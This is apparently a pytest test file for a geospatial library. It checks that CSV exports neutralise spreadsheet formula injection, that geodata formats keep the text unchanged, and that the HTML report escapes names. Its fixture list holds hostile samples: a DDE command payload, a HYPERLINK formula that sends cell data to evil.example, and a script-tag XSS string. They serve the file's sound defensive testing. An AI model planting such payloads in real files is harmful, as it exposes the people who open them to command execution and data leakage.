"""Spreadsheet formula injection: every CSV the library writes neutralises text cells that
start with =, +, -, @, tab or CR (a leading apostrophe, the OWASP rule); numbers stay numbers;
other formats keep the text as it was; HTML stays escaped."""

from __future__ import annotations

import csv
import html
import io
import json
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
from hostile._cli_project import CONFIG, assert_kept, new_project, run, tree, write_layers
from shapely.geometry import Point

from coverage.io import neutralise_cell, write_frame

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "-",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=",
]
HARMLESS = ["West", "a=b", " =1+1", "'=already", "1-2", "", "Ωmega", "x@y"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_payloads_get_an_apostrophe(text: str):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_unchanged(text: str):
    assert neutralise_cell(text) == text


@pytest.mark.parametrize("value", [-3, -2.5, 0, np.int64(-7), np.float64(-1e-9), None, True])
def test_numbers_and_none_are_unchanged(value: object):
    assert neutralise_cell(value) is value


def _rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


@pytest.mark.parametrize("text", PAYLOADS)
def test_write_frame_csv_neutralises_every_text_column_kind(text: str, tmp_path: Path):
    frame = pd.DataFrame(
        {
            "obj": [text, "ok"],
            "str": pd.array([text, "ok"], dtype="string"),
            "cat": pd.Categorical([text, "ok"]),
            "mixed": [text, -4],
            "neg": [-1.5, -2.0],
            "int": [-1, 3],
        }
    )
    write_frame(frame, tmp_path / "t.csv")
    rows = _rows(tmp_path / "t.csv")
    assert rows[0] == ["obj", "str", "cat", "mixed", "neg", "int"]
    assert rows[1][:4] == ["'" + text] * 4
    assert rows[1][4:] == ["-1.5", "-1"]
    assert rows[2] == ["ok", "ok", "ok", "-4", "-2.0", "3"]
    raw = (tmp_path / "t.csv").read_text(encoding="utf-8")
    assert '"-1.5"' not in raw and '"-1"' not in raw  # numbers are not quoted as text
    back = pd.read_csv(tmp_path / "t.csv")
    assert back["neg"].dtype == float and back["int"].dtype == np.int64
    assert frame["obj"][0] == text  # the caller's frame is not changed


def test_column_names_are_neutralised_too(tmp_path: Path):
    write_frame(pd.DataFrame({"=evil()": [1], "ok": ["-x"]}), tmp_path / "t.csv")
    assert _rows(tmp_path / "t.csv") == [["'=evil()", "ok"], ["1", "'-x"]]


def test_geodata_keeps_the_text_as_it_was(tmp_path: Path):
    frame = gpd.GeoDataFrame(
        {"name": PAYLOADS},
        geometry=[Point(835000 + i, 818000) for i in range(len(PAYLOADS))],
        crs=2326,
    )
    write_frame(frame, tmp_path / "t.geojson")
    write_frame(frame, tmp_path / "t.gpkg")
    for name in ("t.geojson", "t.gpkg"):
        assert list(gpd.read_file(tmp_path / name)["name"]) == PAYLOADS  # data, not a spreadsheet
    write_frame(frame, tmp_path / "t.csv")
    rows = _rows(tmp_path / "t.csv")
    assert rows[0] == ["name", "lon", "lat", "x", "y", "crs"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert {r[5] for r in rows[1:]} == {"EPSG:2326"}
    assert float(rows[1][3]) == 835000.0


# ------------------------------------------------------------------ end to end
WEST, EAST, OWNER = "=cmd|' /C calc'!A0", "@SUM(1+1)", "+police"


@pytest.fixture(scope="module")
def hostile_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("injection")
    (root / "layers").mkdir()
    layers = write_layers(root / "layers")
    d = gpd.read_file(layers / "districts.gpkg")
    d["name"] = [WEST, EAST]
    d.to_file(layers / "districts.gpkg", engine="pyogrio")
    c = gpd.read_file(layers / "cameras.gpkg")
    c["owner"] = [OWNER]
    c.to_file(layers / "cameras.gpkg", engine="pyogrio")
    cfg = new_project(layers, root, CONFIG.replace("report = false", "report = true"))
    return cfg


@pytest.fixture(scope="module")
def planned(hostile_project: Path) -> tuple[Path, dict[str, str]]:
    from coverage.cli import main

    before = tree(hostile_project.parent)
    assert main(["plan", str(hostile_project), "-q"]) == 0
    return hostile_project.parent / "out", before


def test_plan_csv_and_districts_csv_are_neutralised(planned: tuple[Path, dict[str, str]]):
    out, before = planned
    assert_kept(before, tree(out.parent))
    districts = _rows(out / "districts.csv")
    assert sorted(r[0] for r in districts[1:]) == sorted(["'" + WEST, "'" + EAST])
    plan = _rows(out / "plan.csv")
    header = plan[0]
    by = [dict(zip(header, r, strict=True)) for r in plan[1:]]
    assert {r["district"] for r in by} <= {"'" + WEST, "'" + EAST}
    existing = next(r for r in by if r["status"] == "existing")
    assert existing["owner"] == "'" + OWNER
    assert existing["site"] == "-1"  # a negative number stays a number
    assert header[-3:] == ["x", "y", "crs"] and existing["crs"] == "EPSG:2326"
    assert float(existing["x"]) == pytest.approx(835020.0)
    meta = json.loads((out / "meta.json").read_text(encoding="utf-8"))
    assert meta["crs"] == "EPSG:2326"


def test_the_geojson_plan_keeps_the_names(planned: tuple[Path, dict[str, str]]):
    out, _ = planned
    plan = gpd.read_file(out / "plan.geojson")
    assert set(plan["district"]) <= {WEST, EAST}
    assert list(plan.loc[plan["status"] == "existing", "owner"]) == [OWNER]


def test_the_report_escapes_the_names(planned: tuple[Path, dict[str, str]]):
    out, _ = planned
    page = (out / "report.html").read_text(encoding="utf-8")
    assert html.escape(WEST) in page or html.escape(WEST, quote=False) in page
    assert "'" + WEST not in page  # the apostrophe rule is for CSV only


def test_evaluate_out_csv_is_neutralised(
    planned: tuple[Path, dict[str, str]], hostile_project: Path, capsys: pytest.CaptureFixture[str]
):
    out, _ = planned
    target = out.parent / "eval.csv"
    code, _, err = run(
        capsys, "evaluate", str(out / "plan.geojson"), str(hostile_project), "-q", "-o", str(target)
    )
    assert code == 0, err
    rows = _rows(target)
    assert sorted(r[0] for r in rows[1:]) == sorted(["'" + WEST, "'" + EAST])
    assert rows[1:] == _rows(out / "districts.csv")[1:]


def test_script_names_are_escaped_in_the_report(tmp_path: Path, capsys: pytest.CaptureFixture[str]):
    payload = '<script>alert("x")</script>'
    (tmp_path / "l").mkdir()
    layers = write_layers(tmp_path / "l")
    d = gpd.read_file(layers / "districts.gpkg")
    d["name"] = [payload, "=" + payload]
    d.to_file(layers / "districts.gpkg", engine="pyogrio")
    cfg = new_project(layers, tmp_path, CONFIG.replace("report = false", "report = true"))
    code, _, err = run(capsys, "plan", str(cfg), "-q")
    assert code == 0, err
    page = (cfg.parent / "out" / "report.html").read_text(encoding="utf-8")
    assert payload not in page
    text = io.StringIO((cfg.parent / "out" / "districts.csv").read_text(encoding="utf-8"))
    names = sorted(r[0] for r in list(csv.reader(text))[1:])
    assert names == sorted([payload, "'=" + payload])


@pytest.mark.parametrize("text", ["ok\r=1+1", "ok\n=1+1", "ok\r\n@SUM(A1)", 'say "hi"\n-1'])
def test_a_line_break_inside_a_cell_cannot_start_a_row(text: str, tmp_path: Path):
    write_frame(pd.DataFrame({"a": [text], "n": [1]}), tmp_path / "t.csv")
    rows = _rows(tmp_path / "t.csv")
    assert rows == [["a", "n"], [text, "1"]]  # one data row, the text whole
    assert pd.read_csv(tmp_path / "t.csv")["a"].tolist() == [text]
